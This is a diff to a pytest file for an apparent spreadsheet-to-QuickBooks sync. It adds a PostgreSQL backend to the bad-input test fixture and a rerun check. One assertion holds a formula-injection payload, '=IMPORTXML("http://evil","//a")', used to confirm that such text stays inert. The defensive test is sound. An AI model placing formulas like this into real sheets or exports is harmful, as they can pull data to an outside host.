@@ -1,5 +1,6 @@
 """The bad-input corpus (tests/data/bad_rows.json): every hostile row gets its own clear qb_error, the good
-rows in the same sheet still sync, nothing crashes, and formula-looking text stays text everywhere."""
+rows in the same sheet still sync, nothing crashes, and formula-looking text stays text everywhere; on both sheet
+backends, and with the database on PostgreSQL (which, unlike SQLite, refuses a value longer than its column)."""
 
 from __future__ import annotations
 
@@ -46,10 +47,11 @@ def test_the_corpus_is_big_enough():
     assert len(CORPUS["cases"]) >= 40
 
 
-@pytest.fixture(params=["local", "google"])
+@pytest.fixture(params=["local", "google", "local-postgresql"])
 def world(request, tmp_path, qbo):
     rows, expected = _sheet_rows()
-    world = make_world(tmp_path, qbo, rows)
+    database = request.getfixturevalue("postgres_url") if request.param.endswith("postgresql") else None
+    world = make_world(tmp_path, qbo, rows, database=database)
     qbo.add_customer("Old Client Co", active=False)
     if request.param == "google":
         import dataclasses
@@ -80,3 +82,5 @@ def test_every_bad_row_gets_its_message_and_the_good_rows_sync(world):
     notes = next(i for i in created.values() if "IMPORTXML" in i.get("PrivateNote", ""))
     assert '=IMPORTXML("http://evil","//a")' in notes["PrivateNote"]
     assert all(len(i.get("PrivateNote", "")) <= 4000 for i in created.values())
+    again = world.service().run("cli")
+    assert (again.status, len(world.emulator.created("Invoice"))) == ("ok", len(created)), again.error
